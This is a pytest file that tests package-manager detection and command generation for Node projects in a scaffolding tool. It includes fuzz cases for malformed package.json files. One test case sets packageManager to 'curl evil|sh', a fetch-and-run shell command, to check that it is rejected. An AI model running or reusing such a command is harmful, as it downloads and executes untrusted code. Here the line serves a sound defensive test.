"""Which package manager a Node project uses, and how it is told what to do."""

from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path

import pytest

from scaffold.frameworks.base import Merging
from scaffold.frameworks.nextjs import NextJs
from scaffold.frameworks.package_managers import (
    BERRY,
    BUN,
    CALM_PNPM,
    NPM,
    PNPM,
    YARN,
    node_project,
)
from scaffold.frameworks.registry import orm_of
from scaffold.manifest.manifest import Manifest
from scaffold.sources.address import Version

SPACES = json.dumps({"workspaces": ["apps/*"]})


def app(top: Path, files: dict[str, str], *, git: bool = True) -> Path:
    """An app at apps/web of a repository with those files."""
    root = top / "apps/web"
    root.mkdir(parents=True)
    if git:
        (top / ".git").mkdir()
    for path, text in files.items():
        (top / path).parent.mkdir(parents=True, exist_ok=True)
        (top / path).write_text(text, "utf-8")
    return root


def named(manager: str, **more: object) -> str:
    return json.dumps({"packageManager": manager, **more})


@pytest.mark.parametrize(
    ("files", "install", "drop", "test"),
    [
        ({}, "npm install", "npm run db:generate -- --drop", "npm test"),
        ({"pnpm-lock.yaml": ""}, "pnpm install", "pnpm run db:generate --drop", "pnpm test"),
        (
            {"yarn.lock": "# yarn lockfile v1"},
            "yarn install",
            "yarn db:generate --drop",
            "yarn test",
        ),
        ({"yarn.lock": "__metadata:"}, "yarn install", "yarn db:generate --drop", "yarn test"),
        ({"bun.lock": ""}, "bun install", "bun run db:generate --drop", "bun run test"),
        ({"bun.lockb": ""}, "bun install", "bun run db:generate --drop", "bun run test"),
    ],
)
def test_what_each_is_told(
    files: dict[str, str], install: str, drop: str, test: str, tmp_path: Path
) -> None:
    project = node_project(app(tmp_path, files))
    manager = project.manager
    assert (manager.install, manager.run("db:generate", "--drop")) == (install, drop)
    assert project.run({}, "test") == test
    assert project.run({"test": "jest"}, "test") == test
    other = {"test": "jest", "scaffold:test": "vitest run"}
    assert project.run(other, "test") == manager.run("scaffold:test")


@pytest.mark.parametrize(
    ("files", "name"),
    [
        ({"apps/web/package.json": named("pnpm@9.1.0"), "yarn.lock": ""}, "pnpm"),
        ({"apps/web/package.json": named("bun@1.2.0"), "package.json": named("npm@11.0.0")}, "bun"),
        ({"package.json": named("pnpm@10.0.0+sha512.ab"), "yarn.lock": ""}, "pnpm"),
        # The workspace decides, whatever somebody left in the app.
        ({"package.json": SPACES, "yarn.lock": "", "apps/web/package-lock.json": ""}, "yarn"),
        (
            {"pnpm-workspace.yaml": "packages:\n  - 'apps/*'\n", "apps/web/package-lock.json": ""},
            "npm",
        ),
        ({"pnpm-workspace.yaml": "packages:\n  - apps/*  # all\n"}, "pnpm"),
        # An app that no workspace counts in has its own.
        ({"package.json": named("pnpm@9.0.0"), "apps/web/bun.lock": ""}, "bun"),
        (
            {"package.json": named("yarn@4.1.0", workspaces={"packages": ["apps/**", "!apps/web"]})}
            | {"apps/web/package-lock.json": ""},
            "npm",
        ),
        ({"apps/pnpm-lock.yaml": "", "yarn.lock": ""}, "pnpm"),
        ({"pnpm-lock.yaml": "", "package-lock.json": ""}, "pnpm"),
        ({"package.json": json.dumps({"devEngines": {"packageManager": {"name": "bun"}}})}, "bun"),
        ({"package.json": named("curl evil|sh")}, "npm"),
    ],
)
def test_which_one(files: dict[str, str], name: str, tmp_path: Path) -> None:
    assert node_project(app(tmp_path, files)).manager.name == name


@pytest.mark.parametrize(
    ("text", "manager"),
    [
        ("yarn@1.22.22", YARN),
        ("yarn@4.5.0", BERRY),
        ("yarn@stable", BERRY),
        ("pnpm@9.0.0", CALM_PNPM),
        ("pnpm@12.4.2", PNPM),
    ],
)
def test_versions(text: str, manager: object, tmp_path: Path) -> None:
    assert node_project(app(tmp_path, {"package.json": named(text)})).manager == manager


@pytest.mark.parametrize(
    ("lock", "text", "hooks"),
    [
        ("yarn.lock", "__metadata:\n", False),
        ("yarn.lock", "# yarn lockfile v1\n", True),
        ("pnpm-lock.yaml", "lockfileVersion: '6.0'\n", False),
        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n", True),
    ],
)
def test_what_runs_before_a_build(lock: str, text: str, hooks: bool, tmp_path: Path) -> None:
    """Yarn 2 and pnpm 8 run no `prebuild` of themselves, and Prisma's client is made there."""
    assert node_project(app(tmp_path, {lock: text})).manager.hooks is hooks


def test_nothing_outside_of_the_repository_counts(tmp_path: Path) -> None:
    root = app(tmp_path / "repository", {})
    (tmp_path / "yarn.lock").write_text("")
    (tmp_path / "package.json").write_text(named("bun@1.0.0", workspaces=["**"]))
    assert node_project(root).manager == NPM


def test_without_git_only_a_workspace_counts(tmp_path: Path) -> None:
    root = app(tmp_path, {"bun.lock": ""}, git=False)
    assert node_project(root).manager == NPM
    (tmp_path / "package.json").write_text(SPACES)
    assert node_project(root).manager == BUN


@pytest.mark.parametrize(
    ("lock", "there"), [("package-lock.json", True), ("pnpm-lock.yaml", False)]
)
def test_packages_may_be_in_the_folder_of_the_workspace(
    lock: str, there: bool, tmp_path: Path
) -> None:
    root = app(tmp_path, {"package.json": SPACES, lock: ""})
    assert not node_project(root).is_installed
    (tmp_path / "node_modules").mkdir()
    assert node_project(root).is_installed is there


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        "null",
        "[]",
        '{"packageManager": 7}',
        '{"packageManager": ["pnpm@9"]}',
        "{",
        '{"workspaces": 7}',
        '{"workspaces": {"packages": {"a": 1}}}',
        '{"workspaces": [1, null]}',
        '{"scripts": []}',
        '{"devEngines": {"packageManager": []}}',
        '{"devEngines": [1]}',
        "\0",
        json.dumps({"workspaces": ["**/" * 60 + "x", "*" * 190]}),
        " " * 3_000_000 + "{",
    ],
    ids=range(15),
)
def test_odd_files(text: str, tmp_path: Path) -> None:
    root = app(tmp_path, {"package.json": text, "apps/web/package.json": text})
    (root / "yarn.lock").mkdir()
    (root / "bun.lock").symlink_to("bun.lock")
    project = node_project(root)
    assert (project.manager, project.run({}, "test"), project.is_installed) == (
        NPM,
        "npm test",
        False,
    )


def test_a_pipe_does_not_block(tmp_path: Path) -> None:
    root = app(tmp_path, {})
    os.mkfifo(root / "package.json")
    os.mkfifo(tmp_path / "pnpm-workspace.yaml")
    assert node_project(root).manager == NPM


def test_an_orm_of_a_fork_has_no_scripts(tmp_path: Path) -> None:
    """Only its templates know it: there is nothing to run, and no traceback."""
    orm = orm_of({"framework": "nextjs", "orm": "kysely"})
    manifest = replace(Manifest(Version("", ""), "mine", "shop"), service=False)
    root = app(tmp_path, {"bun.lock": ""})
    assert NextJs().after_drop(orm, root, manifest) == ["bun run test"]
    assert [one.hint for one in NextJs().examine(root, manifest, orm)] == ["bun install", " ()"]
    assert NextJs().after_merge(orm, root, manifest, Merging((), (), ())).steps == ()
